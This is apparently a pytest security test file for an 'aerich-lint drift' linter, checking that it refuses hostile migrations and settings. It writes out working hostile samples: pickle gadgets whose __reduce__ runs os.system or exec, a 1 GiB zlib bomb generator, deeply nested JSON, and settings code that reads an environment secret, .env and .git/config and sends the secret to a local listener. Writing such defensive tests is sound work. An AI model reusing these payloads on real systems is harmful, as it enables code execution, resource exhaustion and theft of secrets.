"""`aerich-lint drift` (and the plain lint) on migrations and settings from strangers.

Real projects built by the real aerich (as in tests/test_drift.py), then made
hostile: a MODELS_STATE whose pickled index entry runs a command, a zlib bomb, a
deeply nested JSON, settings that read a secret and phone home. Each test names
exactly what must happen instead; each failed before drift ran in the sandbox
with a restricted decoder and the linter bounded its decoding.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import re
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import zlib
from pathlib import Path
from typing import Any

import pytest
from test_drift import Project, _build

from conftest import ROOT

MODELS_STATE = re.compile(r"\nMODELS_STATE = \(\n(?P<body>.*?)\n\)\n", re.S)
SECRET_NAME = "AERICH_LINT_TEST_CANARY_SECRET"
SECRET = "s3cr3t-canary-7f1d2a"


@pytest.fixture(scope="module")
def bases() -> dict[str, Path]:
    return {}


@pytest.fixture
def make(bases: dict[str, Path], tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> Any:
    def make(dialect: str = "postgres") -> Project:
        if dialect not in bases:
            base = tmp_path_factory.mktemp(f"security-base-{dialect}")
            _build(base, dialect)
            bases[dialect] = base
        shutil.copytree(bases[dialect] / "project", tmp_path / "project")
        guard_dir = tmp_path / "_guard"
        shutil.copytree(bases[dialect] / "_guard", guard_dir)
        (guard_dir / "blocked.log").unlink(missing_ok=True)
        return Project(tmp_path / "project", guard_dir)

    return make


def read_state(path: Path) -> Any:
    match = MODELS_STATE.search(path.read_text())
    assert match is not None, path
    raw = "".join(re.findall(r'"([^"]*)"', match.group("body")))
    return json.loads(zlib.decompress(base64.b64decode(raw)))


def write_state(path: Path, encoded: str) -> int:
    """Replace the file's MODELS_STATE with ``encoded``; the line it starts on."""
    text = path.read_text()
    match = MODELS_STATE.search(text)
    assert match is not None, path
    body = "\n".join(f'    "{encoded[i : i + 70]}"' for i in range(0, len(encoded), 70))
    path.write_text(text[: match.start()] + f"\nMODELS_STATE = (\n{body}\n)\n")
    return text[: match.start()].count("\n") + 2


def encode(state: Any) -> str:
    return base64.b64encode(zlib.compress(json.dumps(state).encode())).decode()


def pickled(obj: Any) -> dict[str, str]:
    """An index entry the way aerich 0.9 wrote it (tortoise < 0.24 had no describe())."""
    return {"type": "index", "val": base64.b64encode(pickle.dumps(obj)).decode()}


class _System:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


class _Exec:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (exec, (self.code,))


def newest(project: Project, app: str = "models") -> Path:
    return project.migrations(app)[-1]


def in_sync(project: Project, app: str) -> str:
    return f"app {app}: in sync with {newest(project, app).name}\n"


# ---------------------------------------------------------------------------
# 1. pickle in MODELS_STATE: refused by name, nothing runs
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", ["system", "exec"])
def test_pickle_payload_in_models_state_never_runs(make: Any, tmp_path: Path, payload: str) -> None:
    project = make("postgres")
    canary = tmp_path / "canary"
    gadget: Any = (
        _System(f"touch {canary}")
        if payload == "system"
        else _Exec(f"open({str(canary)!r}, 'w').close()")
    )
    target = newest(project)
    state = read_state(target)
    state["models.Product"]["indexes"] = [pickled(gadget)]
    write_state(target, encode(state))
    proc = project.drift()
    assert not canary.exists()
    assert proc.returncode == 2, proc.stdout + proc.stderr
    name = f"{os.system.__module__}.system" if payload == "system" else "builtins.exec"
    assert proc.stderr == (
        f"aerich-lint: error: app models: {target.name}: MODELS_STATE holds a pickled {name}: "
        "drift unpickles only tortoise's index classes, never anything else\n"
    )
    assert proc.stdout == in_sync(project, "clean") + "1 app in sync with its migrations.\n"


def test_unpickling_elsewhere_in_the_runner_is_refused_too(make: Any, tmp_path: Path) -> None:
    """The audit hook's backstop: a migration that unpickles by itself."""
    project = make("postgres")
    canary = tmp_path / "canary"
    target = newest(project)
    evil = pickle.dumps(_System(f"touch {canary}"))
    target.write_text(f"import pickle\npickle.loads({evil!r})\n" + target.read_text())
    proc = project.drift()
    assert not canary.exists()
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stderr == (
        f"aerich-lint: error: app models: cannot import {target.name}: UnsafeState: refused "
        f"to unpickle {os.system.__module__}.system: drift unpickles only tortoise's index "
        "classes, never anything else\n"
    )


def test_pickled_tortoise_index_still_works(make: Any) -> None:
    """What aerich 0.9 stored for an Index object (as a pickle) is still read."""
    from tortoise.indexes import Index

    project = make("postgres")
    project.edit(
        "models",
        "from tortoise.models import Model\n",
        "from tortoise.models import Model\nfrom tortoise.indexes import Index\n",
    )
    project.edit(
        "models",
        "    sku = fields.CharField(max_length=50, null=True)\n",
        "    sku = fields.CharField(max_length=50, null=True)\n\n"
        "    class Meta:\n"
        '        indexes = (Index(fields=("sku", "stock")),)\n',
    )
    project.aerich("--app", "models", "migrate", "--offline", "--name", "index")
    target = newest(project)
    assert target.name.startswith("1_")
    state = read_state(target)
    described = state["models.Product"]["indexes"]
    assert described == [
        {"fields": ["sku", "stock"], "expressions": [], "name": None, "type": "", "extra": ""}
    ]
    state["models.Product"]["indexes"] = [pickled(Index(fields=("sku", "stock")))]
    write_state(target, encode(state))
    proc = project.drift()
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout == (
        in_sync(project, "models")
        + in_sync(project, "clean")
        + "2 apps in sync with their migrations.\n"
    )


def _in_tortoise(code: str) -> subprocess.CompletedProcess[str]:
    """Run code in a fresh interpreter (the patch changes aerich for good)."""
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=60,
    )


def test_restricted_unpickler_allows_tortoise_index_classes_only() -> None:
    proc = _in_tortoise(
        """
        import os, pickle
        from aerich_lint.drift import _decoder
        from aerich_lint.load.models_state import ModelsStateError
        _decoder.patch_aerich()
        from tortoise.indexes import Index, PartialIndex
        from tortoise.contrib.postgres.indexes import GinIndex, HashIndex
        from tortoise.contrib.mysql.indexes import FullTextIndex, SpatialIndex
        for index in (
            Index(fields=("a",)), PartialIndex(fields=("a",), condition={"b": 1}),
            GinIndex(fields=("a",), name="g"), HashIndex(fields=("a",)),
            FullTextIndex(fields=("a",), parser_name="ngram"), SpatialIndex(fields=("a",)),
        ):
            for protocol in (2, 3, 4, 5):
                back = _decoder.restricted_loads(pickle.dumps(index, protocol))
                assert type(back) is type(index) and vars(back) == vars(index), index
        class Own(Index):
            INDEX_TYPE = "OWN"
        import __main__; __main__.Own = Own  # a project's subclass, in an imported module
        assert type(_decoder.restricted_loads(pickle.dumps(Own(fields=("a",))))) is Own
        for name, data in (
            ("system", pickle.dumps(os.system)),
            ("protocol 0", pickle.dumps(Index(fields=("a",)), 0)),  # copyreg._reconstructor
            ("a list", pickle.dumps(["x"])),
        ):
            try:
                _decoder.object_hook({"type": "index", "val": __import__("base64").b64encode(data).decode()})
            except ModelsStateError as exc:
                print(name, "->", exc)
        """
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [
        f"system -> MODELS_STATE holds a pickled {os.system.__module__}.system: drift "
        "unpickles only tortoise's index classes, never anything else",
        "protocol 0 -> MODELS_STATE holds a pickled copy_reg._reconstructor: drift unpickles "
        "only tortoise's index classes, never anything else",
        "a list -> MODELS_STATE holds a pickled list where aerich stores an index",
    ]


def test_every_aerich_way_to_unpickle_is_patched() -> None:
    proc = _in_tortoise(
        """
        import base64, os, pickle, zlib, json
        from aerich_lint.drift import _decoder
        _decoder.patch_aerich()
        import aerich, aerich.coder, aerich.migrate, aerich.utils
        evil = pickle.dumps(os.system)  # resolving it is the refusal: it never runs
        entry = {"type": "index", "val": base64.b64encode(evil).decode()}
        state = base64.b64encode(zlib.compress(json.dumps({"m": entry}).encode())).decode()
        calls = {
            "aerich.utils.decompress_dict": lambda: aerich.utils.decompress_dict(state),
            "aerich.migrate.decompress_dict": lambda: aerich.migrate.decompress_dict(state),
            "aerich.decompress_dict": lambda: aerich.decompress_dict(state),
            "aerich.coder.decoder": lambda: aerich.coder.decoder(json.dumps(entry)),
            "aerich.coder.load_index": lambda: aerich.coder.load_index(entry),
            "aerich.coder.pickle.loads": lambda: aerich.coder.pickle.loads(evil),
        }
        for name, call in calls.items():
            try:
                call()
            except _decoder.UnsafeState:
                print(name, "refused")
        # writing is untouched: aerich's encoder still round-trips describe()'s dicts
        print(aerich.utils.decompress_dict(aerich.utils.compress_dict({"a": [1]})))
        """
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [
        "aerich.utils.decompress_dict refused",
        "aerich.migrate.decompress_dict refused",
        "aerich.decompress_dict refused",
        "aerich.coder.decoder refused",
        "aerich.coder.load_index refused",
        "aerich.coder.pickle.loads refused",
        "{'a': [1]}",
    ]


def test_patch_fails_closed_when_aerich_changes() -> None:
    proc = _in_tortoise(
        """
        import aerich, aerich.utils, aerich.migrate
        from aerich_lint.drift import _decoder
        original = aerich.utils.decompress_dict
        del aerich.utils.decompress_dict
        try:
            _decoder.patch_aerich()
        except _decoder.PatchError as exc:
            print(exc)
        aerich.utils.decompress_dict = original
        reader = aerich.migrate.Migrate.get_migration_info_for_file
        aerich.migrate.Migrate.get_migration_info_for_file = classmethod(lambda cls, f: None)
        try:
            _decoder.patch_aerich()
        except _decoder.PatchError as exc:
            print(exc)
        """
    )
    assert proc.returncode == 0, proc.stderr
    import aerich

    version = aerich.__version__
    assert proc.stdout.splitlines() == [
        f"aerich {version} has no function aerich.utils.decompress_dict, which drift replaces "
        "to read MODELS_STATE without running pickle: drift does not run aerich's decoder "
        "unpatched",
        f"aerich {version} no longer reads MODELS_STATE with decompress_dict in "
        "Migrate.get_migration_info_for_file: drift does not run aerich's decoder unpatched",
    ]


# ---------------------------------------------------------------------------
# 2. a zlib bomb and a deeply nested JSON: bounded, reported at the file
# ---------------------------------------------------------------------------

BOMB_MIB = 1024  # inflates to 1 GiB; about 1 MB compressed


@pytest.fixture(scope="module")
def bomb() -> str:
    deflate = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    data = b"".join(deflate.compress(chunk) for _ in range(BOMB_MIB)) + deflate.flush()
    assert len(data) < 1_100_000
    return base64.b64encode(data).decode()


def _hostile_migration(project: Project, name: str, encoded: str) -> tuple[Path, int]:
    """A new newest migration of the models app (copied from the init) with this state."""
    init = newest(project)
    path = init.with_name(f"1_20990101000000_{name}.py")
    shutil.copyfile(init, path)
    return path, write_state(path, encoded)


def _lint_peak(project: Project) -> tuple[subprocess.CompletedProcess[str], float]:
    """The plain lint on the project, and the peak memory (MB) of the processes it ran."""
    code = (
        "import resource, subprocess, sys\n"
        "proc = subprocess.run([sys.executable, '-m', 'aerich_lint', 'migrations'],"
        " capture_output=True, text=True)\n"
        "sys.stdout.write(proc.stdout)\n"
        "sys.stderr.write(proc.stderr)\n"
        "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
        "sys.stderr.write(f'\\nPEAK {peak}\\n')\n"
        "sys.exit(proc.returncode)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code],
        cwd=project.root,
        capture_output=True,
        text=True,
        timeout=300,
    )
    stderr, _, peak = proc.stderr.rpartition("\nPEAK ")
    proc.stderr = stderr
    return proc, int(peak) / 1024  # ru_maxrss is in KiB on Linux


def _finding(path: Path, project: Project, line: int, message: str) -> str:
    return (
        f"{path.relative_to(project.root).as_posix()}:{line}:1: error invalid-migration {message}"
    )


def test_zlib_bomb_is_invalid_migration_in_little_memory(make: Any, bomb: str) -> None:
    project = make("postgres")
    path, line = _hostile_migration(project, "bomb", bomb)
    assert 1_300_000 < path.stat().st_size < 1_600_000
    proc, peak = _lint_peak(project)
    message = (
        "MODELS_STATE inflates to more than 16 MiB: far more than aerich writes (a zlib bomb?)"
    )
    assert _finding(path, project, line, message) in proc.stdout.splitlines(), proc.stdout
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    assert peak < 300, f"the lint peaked at {peak:.0f} MB"


def test_zlib_bomb_in_drift(make: Any, bomb: str) -> None:
    project = make("postgres")
    path, _ = _hostile_migration(project, "bomb", bomb)
    proc = project.drift()
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stderr == (
        f"aerich-lint: error: app models: {path.name}: MODELS_STATE inflates to more than "
        "16 MiB: far more than aerich writes (a zlib bomb?)\n"
    )
    assert proc.stdout == in_sync(project, "clean") + "1 app in sync with its migrations.\n"


def test_deeply_nested_json(make: Any) -> None:
    project = make("postgres")
    deep = base64.b64encode(zlib.compress(b"[" * 100_000 + b"]" * 100_000)).decode()
    path, line = _hostile_migration(project, "deep", deep)
    message = "MODELS_STATE nests deeper than 32 levels: aerich's is 5 deep"
    lint, _ = _lint_peak(project)
    assert _finding(path, project, line, message) in lint.stdout.splitlines(), lint.stdout
    assert lint.returncode == 1, lint.stdout + lint.stderr
    assert "internal error" not in lint.stderr
    drift = project.drift()
    assert drift.returncode == 2, drift.stdout + drift.stderr
    assert drift.stderr == f"aerich-lint: error: app models: {path.name}: {message}\n"


def test_decoder_bounds() -> None:
    from aerich_lint.load.models_state import ModelsStateError, decode_models_state

    def error(value: str) -> str:
        with pytest.raises(ModelsStateError) as info:
            decode_models_state(value)
        return str(info.value)

    assert error("A" * (16 * 1024 * 1024 + 1)) == (
        "MODELS_STATE is longer than 16 MiB of text: far more than aerich writes"
    )
    values = b"[" + b"0," * 2_000_001 + b"0]"
    assert error(base64.b64encode(zlib.compress(values)).decode()) == (
        "MODELS_STATE holds more than 2,000,000 JSON values: far more than aerich writes"
    )
    just_deep = b"[" * 32 + b"]" * 32
    assert decode_models_state(base64.b64encode(zlib.compress(just_deep)).decode()) is not None
    too_deep = b"[" * 33 + b"]" * 33
    assert error(base64.b64encode(zlib.compress(too_deep)).decode()) == (
        "MODELS_STATE nests deeper than 32 levels: aerich's is 5 deep"
    )
    truncated = base64.b64encode(zlib.compress(b"{}" * 1000)[:-6]).decode()
    assert error(truncated) == (
        "MODELS_STATE is not base64+zlib+json: incomplete or truncated zlib stream"
    )


# ---------------------------------------------------------------------------
# 3. settings that read secrets and phone home
# ---------------------------------------------------------------------------


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                chunks = []
                while True:
                    try:
                        chunk = conn.recv(4096)
                    except OSError:
                        break
                    if not chunk:
                        break
                    chunks.append(chunk)
                self.received.append(b"".join(chunks) or b"(connected)")

    def close(self) -> list[bytes]:
        self.stop.set()
        self.thread.join(timeout=5)
        self.server.close()
        return self.received


PHONE_HOME = """\
import os, socket, subprocess, sys

SECRET = os.environ.get({name!r}, "absent")
SEND = (
    "import socket, sys; s = socket.create_connection(('127.0.0.1', {port}), timeout=5); "
    "s.sendall(sys.argv[1].encode())"
)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
        s.sendall(("socket:" + SECRET).encode())
except Exception:
    pass
try:
    subprocess.run([sys.executable, "-c", SEND, "subprocess:" + SECRET], timeout=20)
except Exception:
    pass
try:
    os.system(f"{{sys.executable}} -c \\"{{SEND}}\\" system:{{SECRET}}")
except Exception:
    pass
"""


def test_settings_cannot_phone_home(make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    project = make("postgres")
    monkeypatch.setenv(SECRET_NAME, SECRET)
    listener = Listener()
    settings = project.root / "settings.py"
    try:
        settings.write_text(
            PHONE_HOME.format(name=SECRET_NAME, port=listener.port) + settings.read_text()
        )
        # without the test's guard (a sitecustomize its subprocesses would inherit):
        # what reaches the listener is what would leave a CI machine
        proc = project.drift(guarded=False)
    finally:
        received = listener.close()
    assert received == []
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stderr == (
        f"aerich-lint: error: blocked a connection attempt (socket.getaddrinfo '127.0.0.1' "
        f"{listener.port}) while loading settings.TORTOISE_ORM, its models or migrations: "
        "drift never connects to a database; make importing them free of side effects\n"
    )
    assert proc.stdout == (
        in_sync(project, "models")
        + in_sync(project, "clean")
        + "2 apps in sync with their migrations.\n"
    )
    assert SECRET not in proc.stdout + proc.stderr


SNOOP = """\
import os

seen = [{name!r}] if os.environ.get({name!r}) else []
try:
    with open(".env") as dotenv:
        if {secret!r} in dotenv.read():
            seen.append(".env")
except OSError:
    pass
try:
    with open(".git/config") as config:
        if {secret!r} in config.read():
            seen.append(".git/config")
except OSError:
    pass
if seen:
    raise RuntimeError("the settings saw " + ", ".join(seen))
"""


def test_settings_see_no_secret(make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    project = make("postgres")
    monkeypatch.setenv(SECRET_NAME, SECRET)
    (project.root / ".env").write_text(f"TOKEN={SECRET}\n")
    (project.root / ".git").mkdir()
    (project.root / ".git" / "config").write_text(
        f'[http]\n\textraheader = "AUTHORIZATION: basic {SECRET}"\n'
    )
    settings = project.root / "settings.py"
    settings.write_text(SNOOP.format(name=SECRET_NAME, secret=SECRET) + settings.read_text())
    proc = project.drift()
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stderr == ""
    assert proc.stdout == (
        in_sync(project, "models")
        + in_sync(project, "clean")
        + "2 apps in sync with their migrations.\n"
    )


def test_variable_passed_on_by_name(make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """What the settings need from the environment reaches them only when named; a
    KeyError on a variable that is set here says why it is missing."""
    from aerich_lint.drift import DriftOptions, run
    from aerich_lint.errors import UsageError

    project = make("postgres")
    settings = project.root / "settings.py"
    settings.write_text(f'import os\nURL = os.environ["{SECRET_NAME}"]\n' + settings.read_text())
    monkeypatch.setenv(SECRET_NAME, SECRET)
    monkeypatch.chdir(project.root)
    with pytest.raises(UsageError) as info:
        run(DriftOptions())
    assert str(info.value) == (
        f"cannot import the Tortoise config settings.TORTOISE_ORM: KeyError: '{SECRET_NAME}' "
        "(drift imports the settings without the environment's variables; "
        f"{SECRET_NAME} is set here but not passed on)"
    )
    result = run(DriftOptions(pass_env=[SECRET_NAME]))
    assert result.errors == []
    assert [(app.name, app.drifted) for app in result.apps] == [
        ("models", False),
        ("clean", False),
    ]


def test_pass_env_on_the_command_line_and_exec_false(
    make: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--pass-env NAME` reaches the settings; `exec = false` forbids drift outright."""
    project = make("postgres")
    settings = project.root / "settings.py"
    settings.write_text(f'import os\nURL = os.environ["{SECRET_NAME}"]\n' + settings.read_text())
    env = {**os.environ, SECRET_NAME: SECRET}
    command = [sys.executable, "-m", "aerich_lint", "drift"]
    proc = subprocess.run(
        command, cwd=project.root, env=env, capture_output=True, text=True, timeout=180
    )
    assert proc.returncode == 2
    assert "is set here but not passed on" in proc.stderr
    proc = subprocess.run(
        [*command, "--pass-env", SECRET_NAME],
        cwd=project.root, env=env, capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert (proc.returncode, proc.stderr) == (0, "")
    pyproject = project.root / "pyproject.toml"
    pyproject.write_text(pyproject.read_text() + "\n[tool.aerich-lint]\nexec = false\n")
    proc = subprocess.run(
        command, cwd=project.root, env=env, capture_output=True, text=True, timeout=180
    )
    assert proc.returncode == 2
    assert proc.stderr.strip().endswith(
        "exec = false in [tool.aerich-lint]: drift has to import the settings and models, "
        "which that setting forbids"
    )
